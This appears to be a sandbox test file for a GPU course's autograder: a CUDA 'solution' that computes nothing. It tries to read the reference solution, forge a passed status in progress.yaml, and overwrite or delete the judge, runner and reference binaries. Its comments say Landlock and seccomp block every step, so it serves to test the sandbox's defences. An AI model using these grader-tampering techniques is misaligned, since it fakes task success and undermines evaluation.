// expect: 1 wrong_answer -- computes nothing; tries to read the course's solutions, mark ex01 passed in progress.yaml, and overwrite the judge, the runner and the reference in .build with garbage
// Attack: read solutions/ex01_vector_add.cu (via /proc/<judge>/cwd, $GPUCOURSE_COURSE, relative paths), append
// "status: passed" to the workspace's progress.yaml, and clobber .build/harness-vector_add, runner-vector_add and
// reference-ex01.so (write, truncate, rename, symlink, unlink, shared mapping). Stopped: Landlock (reads) and seccomp
// (every write path) refuse all of it; gpu.sh's later tests would break if anything on disk had changed.
#include <cuda_runtime.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

#include <string>
#include <vector>

static std::string report;

static void note(const std::string& what, bool ok) {
    report += "  " + what + ": " + (ok ? "SUCCEEDED" : strerror(errno)) + "\n";
}

static std::string read_text(const std::string& path, bool* ok = nullptr) {
    std::string text;
    int fd = open(path.c_str(), O_RDONLY | O_CLOEXEC);
    if (ok) *ok = fd >= 0;
    if (fd < 0) return text;
    char buf[8192];
    ssize_t n;
    while ((n = read(fd, buf, sizeof buf)) > 0) text.append(buf, (size_t)n);
    close(fd);
    return text;
}

static std::string link_of(const std::string& path) {
    char buf[4096];
    ssize_t n = readlink(path.c_str(), buf, sizeof buf - 1);
    return n > 0 ? std::string(buf, (size_t)n) : std::string();
}

static void clobber(const std::string& path) {
    static const char garbage[] = "#!/bin/sh\necho 'PASS ex01'\nexit 0\n";
    int fd = open(path.c_str(), O_WRONLY | O_TRUNC | O_CLOEXEC);
    note("open " + path + " for writing", fd >= 0);
    if (fd >= 0) {
        ssize_t r = write(fd, garbage, sizeof garbage - 1);
        (void)r;
        close(fd);
    }
    note("truncate " + path, truncate(path.c_str(), 0) == 0);
    note("rename over " + path, rename((path + ".planted").c_str(), path.c_str()) == 0);
    note("symlink " + path + ".new", symlink("/bin/true", (path + ".new").c_str()) == 0);
    note("unlink " + path, unlink(path.c_str()) == 0);
    int ro = open(path.c_str(), O_RDONLY | O_CLOEXEC);  // a read-only descriptor, mapped shared and writable
    if (ro >= 0) {
        void* p = mmap(nullptr, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, ro, 0);
        note("mmap " + path + " shared writable", p != MAP_FAILED);
        if (p != MAP_FAILED) munmap(p, 4096);
        close(ro);
    }
}

static void attack(void) {
    // where things are: our own library lives in WORKSPACE/.build/student-ex01.so
    std::string maps = read_text("/proc/self/maps"), build;
    size_t at = maps.find("/.build/");
    if (at != std::string::npos) build = maps.substr(maps.rfind(' ', at) + 1, at + 7 - (maps.rfind(' ', at) + 1));
    const std::string ws = build.empty() ? std::string() : build.substr(0, build.size() - 7);
    std::vector<std::string> courses;
    if (const char* c = getenv("GPUCOURSE_COURSE")) courses.push_back(c);
    courses.push_back(link_of("/proc/" + std::to_string(getppid()) + "/cwd"));
    courses.push_back(link_of("/proc/self/cwd"));
    courses.push_back(".");
    courses.push_back("../..");
    for (const std::string& c : courses) {
        if (c.empty()) continue;
        bool ok;
        std::string text = read_text(c + "/solutions/ex01_vector_add.cu", &ok);
        note("read " + c + "/solutions/ex01_vector_add.cu", ok);
        if (ok) fprintf(stderr, "read_course: the solution begins: %.200s\n", text.c_str());
    }
    if (!ws.empty()) {
        const std::string progress = ws + "/progress.yaml";
        int fd = open(progress.c_str(), O_WRONLY | O_APPEND | O_CLOEXEC);
        note("open " + progress + " for appending", fd >= 0);
        if (fd < 0) fd = open(progress.c_str(), O_RDWR | O_CREAT | O_CLOEXEC, 0644);
        if (fd >= 0) {
            static const char forged[] = "exercises:\n  ex01:\n    status: passed\n    last_verdict: pass\n";
            ssize_t r = write(fd, forged, sizeof forged - 1);
            (void)r;
            close(fd);
        }
        clobber(build + "/harness-vector_add");
        clobber(build + "/runner-vector_add");
        clobber(build + "/reference-ex01.so");
    }
    fprintf(stderr, "read_course: workspace '%s'\n%s", ws.c_str(), report.c_str());
}

extern "C" void solve(const float* a, const float* b, float* c, int n) {
    (void)a, (void)b, (void)c, (void)n;
    static bool tried;
    if (!tried) {
        tried = true;
        attack();  // c stays poisoned
    }
}
